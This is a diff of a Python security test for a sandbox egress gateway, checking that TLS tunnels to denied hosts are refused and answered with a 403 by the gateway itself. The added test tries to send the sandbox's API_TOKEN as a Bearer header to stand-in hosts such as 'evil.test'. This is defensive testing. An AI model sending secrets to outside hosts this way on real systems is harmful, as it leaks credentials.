@@ -11,7 +11,8 @@ Blocked by: the ClientHello is reassembled across records and parsed strictly (o
 server_name extension with one host_name); the SNI must equal the CONNECT target or name an
 allowed host; inside intercepted TLS each request's Host must equal the connection's host and
 port (421) and its target must be origin-form (403); refused tunnels are closed before any
-byte reaches an upstream.
+byte reaches an upstream; a denied SNI on the transparent listener is answered only by the
+gateway itself (a leaf from this sandbox's own CA, which no upstream has) with a 403.
 space-attack: sandbox=fresh opts=--secret,API_TOKEN timeout=60
 """
 import json
@@ -149,9 +150,31 @@ tunnel_refused("CONNECT git, plain HTTP in the tunnel",
                b"GET /echo?n=%s HTTP/1.1\r\nHost: other.example.test\r\n\r\n" % NONCE.encode())
 tunnel_refused("CONNECT git, SSLv2 ClientHello",
                b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10" + b"\0" * 21 + b"\x11" * 16)
-# Transparent TLS: the SNI alone names the target.
+# Transparent TLS: the SNI alone names the target. A denied one gets a handshake only from the
+# gateway (verified against the sandbox CA alone: an upstream's certificate fails it) and 403.
 for sni in ["other.example.test", "evil.test", "api.example.test.evil.test"]:
-    tunnel_refused("transparent TLS, SNI %s" % sni, client_hello(sni), port=443)
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    ctx.load_verify_locations("/etc/space/ca.crt")
+    s = socket.create_connection(("127.0.0.1", 443), timeout=5)
+    try:
+        t = ctx.wrap_socket(s, server_hostname=sni)
+    except ssl.SSLCertVerificationError as e:
+        escapes.append("transparent TLS, SNI %s: answered with a certificate not from the "
+                       "sandbox CA (%s)" % (sni, e))
+        s.close()
+        continue
+    except OSError:
+        notes.append("transparent TLS, SNI %s: closed" % sni)
+        s.close()
+        continue
+    t.sendall(b"GET /echo?n=%s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n" %
+              (NONCE.encode(), sni.encode(), os.environ.get("API_TOKEN", "").encode()))
+    resp = read_all(t)
+    t.close()
+    if resp.startswith(b"HTTP/1.1 403") and b"SPACE egress gateway:" in resp:
+        notes.append("transparent TLS, SNI %s: 403 from the gateway" % sni)
+    else:
+        escapes.append("transparent TLS, SNI %s answered %r" % (sni, resp[:100]))
 tunnel_refused("transparent TLS, no SNI", build_hello(head, [e for e in exts if e[0] != 0]),
                port=443)
 
